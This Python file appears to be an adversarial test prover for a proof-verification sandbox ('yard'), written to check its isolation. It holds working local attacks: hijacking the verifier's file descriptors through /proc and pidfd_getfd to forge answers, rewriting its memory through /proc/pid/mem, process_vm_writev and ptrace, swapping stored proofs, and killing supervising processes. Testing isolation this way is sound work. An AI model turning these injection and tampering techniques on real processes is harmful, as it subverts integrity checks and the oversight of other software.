"""A prover that would rather forge than prove: `hostile.py ATTACK FOLDER`, where FOLDER is the yard's.

It proves the first block (`reach`: the first two, in two slots), so that its verifier is there. For each block after, it
writes a proof of four bytes and attacks. `reach` tries many things instead, and reports each in its answer.
"""

import ctypes
import errno
import glob
import hashlib
import json
import os
import re
import signal
import socket
import struct
import sys
import threading
import time

ATTACK, YARD = sys.argv[1], sys.argv[2]
RULE, CHANGED = b"only true proofs pass, as always", b"ANY proof passes, as of today..."
PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 5, 16, 17
PIDFD_OPEN, PIDFD_GETFD = 434, 438
PROCESS_VM_READV, PROCESS_VM_WRITEV = {"x86_64": (310, 311)}.get(os.uname().machine, (270, 271))
# The height that is proved.
proving = 0
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long


def checked(result):
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def call(number, *arguments):
    whole = [ctypes.c_long(argument) if isinstance(argument, int) else argument for argument in (number, *arguments)]
    return checked(libc.syscall(*whole))


# Whom it finds.


def processes(wanted):
    """Those whose command line holds a word, of this yard alone."""
    found = []
    for folder in glob.glob("/proc/[0-9]*"):
        try:
            with open(folder + "/cmdline", "rb") as file:
                words = file.read().split(b"\0")
        except OSError:
            continue
        pid = int(folder[6:])
        if pid != os.getpid() and any(wanted in word for word in words) and any(YARD.encode() in word for word in words):
            found.append((pid, words))
    return found


def verifier():
    """The verifier itself, not its guard."""
    for pid, words in processes(b"verifier.py"):
        if b"--grace-ms" not in words and b"--become-child-of" not in words:
            return pid
    raise OSError(errno.ESRCH, "no verifier is to be seen")


def guard():
    """The verifier's guard."""
    for pid, words in processes(b"verifier.py"):
        if b"--grace-ms" in words:
            return pid
    raise OSError(errno.ESRCH, "no guard is to be seen")


def yard():
    """Whoever started the guard that started this."""
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            words = file.read().split(b"\0")
        if b"run" in words and b"--grace-ms" not in words:
            return pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rsplit(")", 1)[1].split()[1])
    raise OSError(errno.ESRCH, "no yard is to be seen")


# Answering for the verifier.


def forged(request):
    request = json.loads(request)
    with open(request["inputs"][0]["path"], "rb") as block:
        values = hashlib.sha256(block.read()).hexdigest()
    return (json.dumps({"id": request["id"], "ok": {"public_values": values}}) + "\n").encode()


def answer_for_verifier(stdin, stdout):
    """Once the request is there, which the verifier, stopped, does not read."""
    request = b""
    while not request.endswith(b"\n"):
        request += os.read(stdin, 1 << 20)
    os.write(stdout, forged(request))


def stop(pid):
    """Until it has stopped, it may still read a request."""
    os.kill(pid, signal.SIGSTOP)
    while True:
        with open(f"/proc/{pid}/stat") as file:
            if file.read().rpartition(")")[2].split()[0] == "T":
                return
        time.sleep(0.001)


def by_descriptors():
    pid = verifier()
    stop(pid)
    stdin = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY)
    stdout = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
    return lambda: answer_for_verifier(stdin, stdout)


def by_pidfd():
    pid = verifier()
    stop(pid)
    process = call(PIDFD_OPEN, pid, 0)
    stdin, stdout = call(PIDFD_GETFD, process, 0, 0), call(PIDFD_GETFD, process, 1, 0)
    return lambda: answer_for_verifier(stdin, stdout)


def by_guessing():
    """Without reading the request: under the id that it had when ids were counted, the setup's being 1."""
    pid = verifier()
    stop(pid)
    stdout = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
    os.write(stdout, (json.dumps({"id": str(proving + 1), "ok": {"public_values": "00"}}) + "\n").encode())


# Changing the verifier's mind.


def places_of_rule(pid, read):
    for line in open(f"/proc/{pid}/maps"):
        start, end, rights = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\S+)", line).groups()
        start, end = int(start, 16), int(end, 16)
        if not rights.startswith("rw") or end - start > 64 << 20:
            continue
        try:
            memory = read(start, end - start)
        except OSError:
            continue
        for found in re.finditer(re.escape(RULE), memory):
            yield start + found.start()


def by_memory_file():
    pid = verifier()
    memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    for place in places_of_rule(pid, lambda at, size: os.pread(memory, size, at)):
        os.pwrite(memory, CHANGED, place)


def vectors(number, pid, at, buffer):
    here = struct.pack("NN", ctypes.addressof(buffer), len(buffer))
    there = struct.pack("NN", at, len(buffer))
    return call(number, pid, here, 1, there, 1, 0)


def by_vm_writev():
    pid = verifier()

    def read(at, size):
        buffer = ctypes.create_string_buffer(size)
        vectors(PROCESS_VM_READV, pid, at, buffer)
        return buffer.raw

    for place in places_of_rule(pid, read):
        vectors(PROCESS_VM_WRITEV, pid, place, ctypes.create_string_buffer(CHANGED, len(CHANGED)))


def by_ptrace():
    pid = verifier()
    checked(libc.ptrace(PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, 0)
    memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    for place in places_of_rule(pid, lambda at, size: os.pread(memory, size, at)):
        for offset in range(0, len(CHANGED), 8):
            word = int.from_bytes(CHANGED[offset : offset + 8], "little")
            checked(libc.ptrace(PTRACE_POKEDATA, pid, place + offset, word))
    checked(libc.ptrace(PTRACE_DETACH, pid, None, None))


# Changing what was verified.


def swap_draft():
    """From now on, whatever proof the yard has copied and not named yet becomes another one."""

    def swap():
        while True:
            for draft in glob.glob(YARD + "/artifacts/unnamed/*"):
                try:
                    # When it was verified is known to nobody here; what is kept has the true one's name.
                    os.chmod(draft, 0o644)
                    with open(draft, "r+b") as file:
                        file.write(b"fake")
                except OSError:
                    pass

    threading.Thread(target=swap, daemon=True).start()


# What it reaches at all.


def tried(work):
    try:
        work()
        return "done"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))


def write(path):
    with open(path, "r+b" if os.path.exists(path) else "wb") as file:
        file.write(b"")


def read_some(path):
    with open(path, "rb") as file:
        file.read(1)


def operate():
    with socket.socket(socket.AF_UNIX) as talk:
        talk.settimeout(10)
        talk.connect(YARD + "/socket")
        talk.sendall(b'"nothing that it knows"\n')
        if b"has no say" in talk.recv(4096):
            raise OSError(errno.EPERM, "refused")


def take_descriptor(pid):
    call(PIDFD_GETFD, call(PIDFD_OPEN, pid, 0), 0, 0)


def trace(pid):
    checked(libc.ptrace(PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, 0)
    checked(libc.ptrace(PTRACE_DETACH, pid, None, None))


def others_folders():
    """The verifier's, and those of other slots."""
    own = os.environ.get("TMPDIR", "/nonexistent")
    places = [os.path.dirname(place) for place in glob.glob(YARD + "/work/*/tmp")]
    # Where the work folder cannot be listed, names are known all the same.
    places += [YARD + "/work/" + name for name in ("prove-0", "verify-0", "prove-1", "verify-1")]
    return [place for place in dict.fromkeys(places) if not own.startswith(place + "/")]


def reach():
    """Signals are sent that do nothing, and files are opened and left as they are."""
    found, victims = {}, {}
    for name, find in {"yard": yard, "guard": guard, "verifier": verifier}.items():
        found[f"see the {name}"] = tried(lambda: victims.update({name: find()}))
    for name, pid in victims.items():
        found[f"signal the {name}"] = tried(lambda: os.kill(pid, 0))
        found[f"descriptors of the {name}"] = tried(lambda: os.readlink(f"/proc/{pid}/fd/1"))
        found[f"pidfd_getfd of the {name}"] = tried(lambda: take_descriptor(pid))
        found[f"memory of the {name}"] = tried(lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)))
        found[f"trace the {name}"] = tried(lambda: trace(pid))
    artifact = next(iter(glob.glob(YARD + "/artifacts/??/*")), YARD + "/artifacts/none")
    found["edit a kept proof"] = tried(lambda: write(artifact))
    found["put a proof among the unnamed"] = tried(lambda: write(YARD + "/artifacts/unnamed/forged"))
    found["edit the state"] = tried(lambda: write(YARD + "/state.db"))
    found["replace the state"] = tried(lambda: os.rename(YARD + "/state.db-wal", YARD + "/state.db-gone"))
    found["edit the verifier's program"] = tried(lambda: write(os.path.join(os.path.dirname(YARD), "verifier.py")))
    found["the operator's socket"] = tried(operate)
    for place in others_folders():
        found[f"write in {os.path.basename(place)}"] = tried(lambda: write(place + "/forged"))
        found[f"write in {os.path.basename(place)}/tmp"] = tried(lambda: write(place + "/tmp/forged"))
    return found


def kill(pid):
    os.kill(pid, signal.SIGKILL)


ATTACKS = {
    "descriptors": by_descriptors,
    "pidfd": by_pidfd,
    "guess": by_guessing,
    "memory": by_memory_file,
    "vm-writev": by_vm_writev,
    "ptrace": by_ptrace,
    "swap": swap_draft,
    "note": lambda: write(os.path.join(os.path.dirname(YARD), "notes", "note")),
    "kill-verifier": lambda: kill(verifier()),
    "kill-yard": lambda: kill(yard()),
}


def prove(request):
    with open(request["inputs"][0]["path"], "rb") as file:
        block = file.read()
    proof = hashlib.sha256(block).hexdigest().encode()
    global proving
    proving = int(json.loads(block)["block"]["number"], 16)
    first = proving <= (2 if ATTACK == "reach" else 1)
    afterwards = None
    if ATTACK == "wait":
        time.sleep(1000)
    if ATTACK == "reach" and first:
        # The other slot is to have work too.
        time.sleep(1)
    elif ATTACK == "reach":
        return {"error": {"kind": "permanent", "message": "reached: " + json.dumps(reach())}}, None
    if not first:
        proof = proof if ATTACK == "swap" else b"fake"
        try:
            afterwards = ATTACKS[ATTACK]() if ATTACK in ATTACKS else None
        except OSError as error:
            print(f"{ATTACK}: {error}", file=sys.stderr, flush=True)
    path = os.path.join(request["output_dir"], "proof")
    with open(path, "wb") as file:
        file.write(proof)
    return {"ok": {"proof": path}}, afterwards


def say(answer):
    sys.stdout.write(json.dumps(answer) + "\n")


def main():
    proved = 0
    for line in sys.stdin:
        request = json.loads(line)
        answer, afterwards = {"ok": {}}, None
        if request["verb"] == "prove":
            answer, afterwards = prove(request)
            proved += 1
        say({"id": request["id"], **answer})
        if ATTACK == "early" and proved > 1:
            # Somebody may take it for the verifier's, or for the next request's.
            say({"id": request["id"], "ok": {"public_values": "00"}})
        sys.stdout.flush()
        if afterwards:
            try:
                afterwards()
            except OSError as error:
                print(f"{ATTACK}: {error}", file=sys.stderr, flush=True)


main()
